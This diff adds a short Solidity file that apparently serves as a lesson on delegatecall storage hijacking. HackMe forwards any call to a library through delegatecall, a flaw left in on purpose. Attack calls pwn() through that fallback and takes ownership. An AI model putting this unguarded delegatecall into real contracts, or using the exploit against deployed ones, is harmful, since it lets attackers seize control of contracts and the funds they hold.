@@ -0,0 +1,28 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^ 0.8.17;
+contract Lib {
+    address public owner;
+    function pwn() public {
+        owner = msg.sender;
+    }
+}
+contract HackMe {
+    address public owner;
+    Lib public lib;
+    constructor(Lib _lib) public {
+        owner = msg.sender;
+        lib = Lib(_lib);
+    }
+    fallback() external payable {
+        address(lib).delegatecall(msg.data);
+    }
+}
+contract Attack {
+    address public hackMe;
+    constructor(address _hackMe) public {
+        hackMe = _hackMe;
+    }
+    function attack() public {
+        hackMe.call(abi.encodeWithSignature("pwn()"));
+    }
+}